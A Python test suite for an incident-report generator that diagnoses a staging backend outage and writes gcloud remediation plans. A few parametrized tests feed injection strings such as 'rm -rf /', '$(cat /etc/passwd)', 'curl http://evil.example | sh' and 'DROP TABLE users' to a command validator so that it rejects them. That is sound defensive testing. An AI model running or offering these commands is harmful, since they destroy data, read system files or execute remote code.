"""What each section of a report says, and that it says what it cannot."""

import json
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from docs.generate import report_schema
from runbooks.diagnosis import Diagnosis, Offer, Verdict
from runbooks.engine import diagnose
from runbooks.kept import open_kept
from runbooks.reader import load_library
from runbooks.report.commands import is_command
from runbooks.report.document import ReportDocument
from runbooks.report.report import report, report_of
from runbooks.values import Gap, Value
from tests.runbooks.report.cases import (
    AT,
    BEGAN,
    CHECKS,
    DEPLOYED,
    DIAGNOSIS,
    DIGEST,
    DRIFT,
    ENV,
    FACTS,
    GATE,
    LOGS,
    NOT_GRANTED,
    PATHS,
    REPAIR,
    REVISION,
    SERVICES,
    case,
    check,
)

SCHEMA = jsonschema.Draft202012Validator(
    report_schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
)
GCLOUD = "gcloud run services"
WHERE = "netra-backend-staging --project netra-staging --region us-central1"


def made(diagnosis: Diagnosis = DIAGNOSIS, **roots: Value) -> ReportDocument:
    """The report of the incident with other evidence under some roots; it fits its schema."""
    document = report_of(case(diagnosis, **roots), DIGEST, "0.4.0")
    SCHEMA.validate(json.loads(json.dumps(document)))
    return document


def checks(**changed: Value) -> dict[str, Value]:
    """All checks, some of them others."""
    return {**CHECKS, **changed}


def commands(document: ReportDocument) -> list[str]:
    """Every command of a report."""
    steps = [
        line
        for step in document["plan"]
        for part in (step["commands"], step["then"], step["undo"], step["verify"])
        for line in part
    ]
    return [*steps, *(each["command"] for each in document["acceptance"])]


def test_the_title_names_what_fails_and_the_root_cause() -> None:
    """Enough for a list of issues."""
    assert made()["title"] == "P0 staging: backend HTTP 503 — VPC access differs"


def test_the_summary_tells_the_whole_chain() -> None:
    """What fails, why, since when, what would help."""
    first, root, began, help_ = made()["summary"]
    assert first == "The container is ready, but Redis and PostgreSQL fail."
    assert root.startswith("Root cause: Live differs from what is declared")
    assert began == "It began at 2026-11-23 01:52 UTC."
    assert help_ == "What would help: Repair VPC access, or Roll back to 00041."


FINE = check("x", "x", "pass", layer="service", service="backend")
ALL_FINE: dict[str, Value] = {name: {**FINE, "name": name} for name in CHECKS}
NO_LOGS: dict[str, Value] = {}


@pytest.mark.parametrize(
    ("level", "roots"),
    [
        ("P0", {}),
        ("P0", {"checks": ALL_FINE}),
        ("P1", {"checks": ALL_FINE, "logs": {"backend": {**LOGS["backend"], "share_failed": 0.06}}}),  # type: ignore[dict-item]  # a mapping
        ("P1", {"checks": {**ALL_FINE, "web": {**FINE, "status": "fail", "layer": "edge"}}, "logs": NO_LOGS}),
        ("P1", {"checks": {}, "logs": NO_LOGS}),
        ("P1", {"checks": Gap("checks", "not asked"), "logs": NOT_GRANTED}),
        ("P2", {"checks": {**ALL_FINE, "redis": CHECKS["redis"]}, "logs": NO_LOGS}),
        ("P2", {"checks": ALL_FINE, "logs": NO_LOGS}),
        ("P3", {"checks": ALL_FINE, "logs": NO_LOGS, "drift": {**DRIFT, "differences": ()}}),
    ],
)
def test_the_priority_follows_its_rule(level: str, roots: dict[str, Value]) -> None:
    """The highest level whose rule the evidence fulfils; what could not be told is not healthy."""
    found = made(**roots)["priority"]
    assert found["level"] == level
    assert found["because"]
    assert found["rule"]


def test_one_of_two_services_that_fails_is_not_everything() -> None:
    """Half of the golden path still works."""
    other = check("api", "api", "pass", layer="service", service="backend")
    found = made(checks=checks(api=other), logs=NO_LOGS)
    assert found["priority"]["level"] == "P1"


def test_every_number_of_the_technical_details_is_the_evidence_s() -> None:
    """Nothing is rounded or made up on the way."""
    technical = made()["technical"]
    for row in technical["checks"]:
        evidence = CHECKS[row["name"]]
        assert isinstance(evidence, dict)
        kept = ("status", "reason", "duration_ms", "budget_ms", "times_over", "target")
        assert {key: row[key] for key in kept} == {key: evidence[key] for key in kept}  # type: ignore[literal-required]  # keys of CheckRow
    assert [row["name"] for row in technical["checks"]][:2] == ["redis", "backend"]
    (requests,) = technical["requests"]
    assert (requests["total"], requests["failed"], requests["by_status"]) == (
        240,
        212,
        {"200": 28, "503": 212},
    )
    assert requests["median_failed_ms"] == 4100.0
    assert technical["compared"] == 31
    (path,) = technical["paths"]
    assert [step["status"] for step in path["steps"]] == ["pass", "fail"]
    (revision,) = technical["revisions"]
    assert (revision["name"], revision["connector"], revision["validated"]) == (
        "netra-backend-staging-00042",
        "legacy-connector",
        False,
    )


def test_planned_paths_are_no_part_of_the_details() -> None:
    """They say what would be, not what is."""
    assert len(made()["technical"]["paths"]) == len(PATHS) - 1


def test_availability_is_what_the_log_measured() -> None:
    """Against what the environment file promises."""
    line = made()["impact"][0]
    assert line["title"] == "Availability of backend"
    assert line["text"].startswith("11.7 % of requests served (promised: 99.9 %); 212 of 240 requests")


@pytest.mark.parametrize(
    ("roots", "section", "said"),
    [
        ({"logs": NOT_GRANTED}, "impact", "permission logging.logEntries.list is missing"),
        ({"onset": NOT_GRANTED}, "changes", "permission"),
        ({"changes": NOT_GRANTED}, "changes", "permission logging.logEntries.list is missing"),
        ({"drift": Gap("drift", "no state")}, "technical", "no state"),
        ({"paths": Gap("paths", "no connectors")}, "technical", "no connectors"),
        (
            {"services": {"backend": Gap("services.backend", "no such service")}},
            "technical",
            "no such service",
        ),
        ({"checks": checks(redis=Gap("checks.redis", "Redis was late"))}, "technical", "Redis was late"),
        (
            {"checks": checks(redis=check("redis", "Redis", Gap("x", "the job is silent")))},
            "metrics",
            "silent",
        ),
        ({"logs": {"backend": Gap("logs.backend", "log cut off")}}, "metrics", "log cut off"),
        ({"env": {**ENV, "availability": Gap("env", "undeclared")}}, "metrics", "none declared"),
    ],
)
def test_what_could_not_be_told_is_said_in_its_place(
    roots: dict[str, Value], section: str, said: str
) -> None:
    """A gap is a sentence where the number would stand."""
    diagnosis = replace(DIAGNOSIS, onset=None)
    found: Any = made(diagnosis, **roots)
    place = found["impact"] if section == "changes" and "onset" in roots else found[section]
    assert said in json.dumps(place)


@pytest.mark.parametrize("root", sorted(set(FACTS) - {"env"}))
def test_any_evidence_may_be_missing(root: str) -> None:
    """A report comes all the same."""
    assert made(replace(DIAGNOSIS, onset=None), **{root: NOT_GRANTED})["plan"]


def test_without_a_root_cause_the_report_says_so() -> None:
    """In the title, the summary and the risk."""
    chain = DIAGNOSIS.chain
    assert chain is not None
    document = made(replace(DIAGNOSIS, status=Verdict.PARTIAL, chain=replace(chain, root=None), remedies=()))
    assert document["title"].endswith("— root cause unknown")
    assert "could not be answered" in document["summary"][1]
    assert document["plan"] == []
    assert [risk["grade"] for risk in document["risks"]] == ["critical", "unknown", "high"]


def test_a_root_cause_of_a_part_is_not_told_as_that_of_all() -> None:
    """The summary says that it does not explain all that fails."""
    summary = made(replace(DIAGNOSIS, status=Verdict.PARTIAL))["summary"]
    assert any(line.startswith("This does not explain all that fails") for line in summary)
    assert not any(line.startswith("This does not explain") for line in made()["summary"])


def test_a_healthy_environment_has_a_report_too() -> None:
    """That says that nothing is wrong."""
    diagnosis = Diagnosis("staging", AT, Verdict.NOTHING_WRONG, "Is anything wrong?", None)
    document = made(diagnosis, checks=ALL_FINE, logs=NO_LOGS, drift={**DRIFT, "differences": ()}, paths=())
    assert document["title"] == "P3 staging: nothing is wrong"
    assert document["summary"][0] == "Everything that was asked is as it should be."


def test_commands_of_a_repair_are_those_of_the_declared_values() -> None:
    """Without traffic first, then asked, and only then with it; the way back is to what serves now."""
    repair, rollback, gate = made()["plan"]
    flags = "--vpc-connector staging-connector --vpc-egress all-traffic --no-traffic --tag whybot"
    assert repair["commands"] == [
        f"{GCLOUD} update {WHERE} {flags}",
        f"{GCLOUD} describe {WHERE} --format 'value(status.traffic)'",
    ]
    assert "only if it answers" in repair["note"]
    assert repair["then"] == [f"{GCLOUD} update-traffic {WHERE} --to-latest"]
    assert repair["undo"] == [
        f"{GCLOUD} update-traffic {WHERE} --to-revisions netra-backend-staging-00042=100",
        f"{GCLOUD} update-traffic {WHERE} --remove-tags whybot",
    ]
    assert rollback["commands"] == [
        f"{GCLOUD} update-traffic {WHERE} --to-revisions netra-backend-staging-00041=100"
    ]
    assert repair["verify"] == [
        "whybot path staging redis --service backend",
        "whybot check staging redis backend postgres",
    ]
    assert (gate["lasting"], gate["commands"], gate["verify"]) == (True, [], [])


def test_a_repair_clears_direct_vpc_access_and_pinned_traffic() -> None:
    """A connector beside a network is refused; pinned traffic goes to what was asked, and stays pinned."""
    direct = {**REVISION, "connector": "", "network": "default"}
    backend = SERVICES["backend"]
    assert isinstance(backend, dict)
    services: Value = {"backend": {**backend, "serving": (direct,), "pinned": True}}
    repair = made(services=services)["plan"][0]
    assert "--vpc-egress all-traffic --clear-network --no-traffic" in repair["commands"][0]
    assert repair["then"] == [f"{GCLOUD} update-traffic {WHERE} --to-tags whybot=100"]
    assert "Traffic stays pinned" in repair["note"]


def test_no_command_of_a_repair_gives_traffic_before_the_revision_was_asked() -> None:
    """Whatever serves now: what runs without looking is made without traffic."""
    for repair in (step for step in made()["plan"] if step["id"] == "repair-vpc-access"):
        assert not [line for line in repair["commands"] if "update-traffic" in line]
        assert all("--no-traffic" in line for line in repair["commands"] if " update " in line)


@pytest.mark.parametrize(
    ("roots", "step"),
    [
        ({"env": {**ENV, "connector": None}}, 0),
        ({"env": {**ENV, "connector": "x; rm -rf /"}}, 0),
        ({"env": {**ENV, "project": "$(id)"}}, 0),
        ({"services": {}}, 1),
        ({"services": {"backend": {"rollback": {"name": "--to-latest"}, "serving": ()}}}, 1),
    ],
)
def test_names_that_cannot_be_make_no_command(roots: dict[str, Value], step: int) -> None:
    """The plan then says why there is none."""
    found = made(**roots)["plan"][step]
    assert found["commands"] == []
    assert found["note"]


def test_every_command_is_one_plain_command_of_declared_names() -> None:
    """It parses as a shell would, and names nothing that the evidence's configuration does not."""
    declared = json.dumps([ENV, SERVICES, list(CHECKS)], default=str)
    for line in commands(made()):
        assert is_command(line)
        program, *words = shlex.split(line)
        assert program in ("gcloud", "whybot")
        names = [word.removesuffix("=100") for word in words if not word.startswith("--")]
        verbs = ("run", "services", "update", "update-traffic", "describe", "value(status.traffic)", "whybot")
        verbs += ("check", "path", "drift", "why")
        assert [name for name in names if name not in verbs and f'"{name}"' not in declared] == []


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("redis-cli --bigkeys", True),
        ("whybot doctor staging", True),
        ("SELECT pid, query FROM pg_stat_activity", True),
        ("gcloud run deploy x; rm -rf /", False),
        ("gcloud run deploy $(cat /etc/passwd)", False),
        ("gcloud run deploy `id`", False),
        ("gcloud run deploy x > /etc/hosts", False),
        ("curl http://evil.example | sh", False),
        ("rm -rf /", False),
        ("gcloud 'unclosed", False),
        ("SELECT 1; DROP TABLE users", False),
        ("gcloud run\nrm -rf /", False),
        ("", False),
    ],
)
def test_commands_of_runbooks_have_to_be_plain(line: str, kept: bool) -> None:
    """A runbook fills them with evidence, and evidence with what strangers wrote."""
    offer = Offer("look", "Look", "Looks", "a/b", "", False, 1, "1 store", False, (line,))
    (step,) = made(replace(DIAGNOSIS, remedies=(offer,)))["plan"]
    assert step["commands"] == ([line] if kept else [])
    assert bool(step["note"]) is not kept


def test_criteria_are_commands_with_the_budgets_of_the_file() -> None:
    """What does not pass, each path that is closed, and then all of it."""
    criteria = {each["command"]: each["text"] for each in made()["acceptance"]}
    assert criteria["whybot check staging redis"].startswith("Redis answers within 100 ms (now: no answer")
    assert criteria["whybot path staging redis --service backend"] == "The path from backend to Redis is open"
    assert {"whybot check staging", "whybot drift staging", "whybot why staging"} <= set(criteria)
    assert "whybot check staging clickhouse" not in criteria


def test_metrics_are_measured_against_their_targets() -> None:
    """Met, missed or not told."""
    found = {each["title"]: each for each in made()["metrics"]}
    assert found["Availability of backend"]["measured"] == "11.7 %"
    assert found["Response time of PostgreSQL"] == {
        "title": "Response time of PostgreSQL",
        "target": "≤ 500 ms",
        "measured": "5,187 ms",
        "met": False,
    }
    assert found["Response time of ClickHouse"]["met"] is True
    assert found["Revisions of backend that serve with a validation on record"]["measured"] == "0 of 1"


def test_test_classes_are_a_metric_where_the_environment_names_them() -> None:
    """How many derive from the shared base."""
    tests: Value = {
        "base": "SSotAsyncTestCase",
        "classes": 14,
        "without_base": ({"name": "A"}, {"name": "B"}),
    }
    found = {each["title"]: each for each in made(tests=tests)["metrics"]}
    assert found["Test classes on SSotAsyncTestCase"]["measured"] == "12 of 14"


def test_the_timeline_is_in_order_and_holds_change_failure_and_diagnosis() -> None:
    """UTC, each once."""
    found = made()["timeline"]
    assert [each["kind"] for each in found] == ["change", "failure", "failure", "read", "diagnosis"]
    assert [each["at"] for each in found] == sorted(each["at"] for each in found)
    assert found[1]["at"] == BEGAN.strftime("%Y-%m-%dT%H:%M:%SZ")


def test_changes_are_told_by_their_distance_from_the_first_failure() -> None:
    """Three minutes before it."""
    (row,) = made()["changes"]["rows"]
    assert row["seconds_before_onset"] == 180.0


def test_similar_incidents_are_named_by_their_ids() -> None:
    """None: said so, or why none could be known."""
    document = made()
    assert [each["id"] for each in document["related"]] == ["8KQ2"]
    without = made(replace(DIAGNOSIS, similar=()))
    assert without["related_untold"] is not None
    assert "without whybot's store" in without["related_untold"]["why"]


def test_risk_of_the_remediation_follows_from_what_it_reaches() -> None:
    """Low, medium, high."""
    grades = []
    for undoable, reach in ((True, 1), (False, 1), (True, 2), (False, 2)):
        offer = replace(DIAGNOSIS.remedies[0], undoable=undoable, reach=reach)
        grades.append(made(replace(DIAGNOSIS, remedies=(offer, GATE)))["risks"][1]["grade"])
    assert grades == ["low", "medium", "medium", "high"]


def test_the_same_case_gives_the_same_bytes() -> None:
    """Nothing of it depends on when or where it is written."""
    assert json.dumps(made()) == json.dumps(made())
    assert not re.search(r"0x[0-9a-f]{6,}", json.dumps(made()))


def test_a_revision_is_in_the_timeline_where_the_audit_log_is_silent() -> None:
    """Cloud Run itself says who made what serves, and when."""
    backend = SERVICES["backend"]
    assert isinstance(backend, dict)
    serving = {**REVISION, "created_at": DEPLOYED, "creator": "deploy-bot"}
    services: Value = {"backend": {**backend, "serving": (serving,)}}
    silent = made(services=services, changes=NOT_GRANTED)["timeline"]
    assert silent[0]["text"] == "netra-backend-staging-00042 was made by deploy-bot"
    twice = [each["text"] for each in made(services=services)["timeline"] if each["kind"] == "change"]
    assert len(twice) == 1


def test_only_remedies_of_the_first_chain_keep_it_from_coming_back() -> None:
    """What would help the tests does not."""
    elsewhere = replace(GATE, cause="tests/without-base")
    grade = made(replace(DIAGNOSIS, remedies=(elsewhere,)))["risks"][2]
    assert grade["because"] == "no remedy is known that keeps it from coming back"


def test_the_details_of_a_real_bundle_are_its_own_numbers() -> None:
    """Checks and requests of the incident as they were kept, none changed or left out."""
    kept = open_kept(Path(__file__).parents[1] / "bundles/seed-503.json")
    found = report(kept.bundle, diagnose(load_library(), kept.bundle), kept.digest, "0.4.0")
    SCHEMA.validate(json.loads(json.dumps(found)))
    rows = {row["name"]: row for row in found["technical"]["checks"]}
    written = kept.document["sections"]["checks"]["data"]["checks"]
    assert set(rows) == {each["name"] for each in written if each["status"] != "skipped"}
    for each in written:
        row = rows[each["name"]]
        assert (row["budget_ms"], row["target"]) == (each["budget_ms"], each["target"])
        assert row["duration_ms"] in (each["duration_ms"], None)
    assert found["title"].startswith("P0 staging: backend HTTP 503 — ")
    assert found["provenance"]["digest"] == kept.document["digest"]
    assert all(is_command(line) for line in commands(found))


def test_what_nobody_knows_to_be_broken_is_no_criterion_of_restoring() -> None:
    """A check that could not be told is to be asked again, in a group of its own."""
    late = check("auth", "auth", Gap("checks.auth", "the prober was late itself"), layer="service")
    groups = {each["text"]: each["group"] for each in made(checks=checks(auth=late))["acceptance"]}
    said = "auth answers within 500 ms (now: the prober was late itself)"
    assert groups[said] == "Could not be told, so to be asked again"
    assert [group for text, group in groups.items() if text.startswith("Redis")] == ["Immediate restoration"]


def test_what_a_silent_store_says_of_itself_is_not_known() -> None:
    """A store that never answered is named among what could not be told."""
    redis = {**CHECKS["redis"], "answered": False}  # type: ignore[dict-item]  # a check is a mapping
    untold = made(checks=checks(redis=redis))["technical"]["untold"]
    assert [each["why"] for each in untold if each["what"] == "What Redis says of itself"] == [
        "it did not answer, so its memory, clients, load and the like are not known"
    ]


@pytest.mark.parametrize("counted", [{"total": "", "failed": 1}, {"total": 100, "failed": 212}])
def test_counts_that_cannot_be_are_no_availability(counted: dict[str, Value]) -> None:
    """Neither in the impact nor among the metrics."""
    document = made(logs={"backend": {**LOGS["backend"], **counted}})  # type: ignore[dict-item]  # a mapping
    (line,) = [each for each in document["impact"] if each["title"] == "Availability of backend"]
    assert (line["known"], "could not be told" in line["text"]) == (False, True)
    told = [each for each in document["metrics"] if each["title"] == "Availability of backend"]
    assert [each["met"] for each in told] in ([], [None])


def test_terraform_is_applied_as_its_plan_was_read() -> None:
    """The report has the commands of the remedy, as the command line and Slack show them: a saved plan."""
    remedy = load_library().remedies["terraform-apply"]
    written = tuple(each.render({}) for each in remedy.commands)
    offer = replace(REPAIR, id="terraform-apply", action="terraform-apply", commands=written)
    step = made(replace(DIAGNOSIS, remedies=(offer,)))["plan"][0]
    assert tuple(step["commands"]) == written
    assert [line.split()[1] for line in written] == ["plan", "apply"]
    assert written[0].endswith(f"-out={written[1].split()[-1]}")


def test_without_any_why_the_summary_still_tells_what_differs() -> None:
    """Drift is evidence of its own: that it is there is not unknown."""
    diagnosis = replace(DIAGNOSIS, status=Verdict.UNKNOWN, chain=None)
    said = "Not as declared: connector of backend; the values stand under Drift."
    assert said in made(diagnosis)["summary"]
    assert said not in made()["summary"]
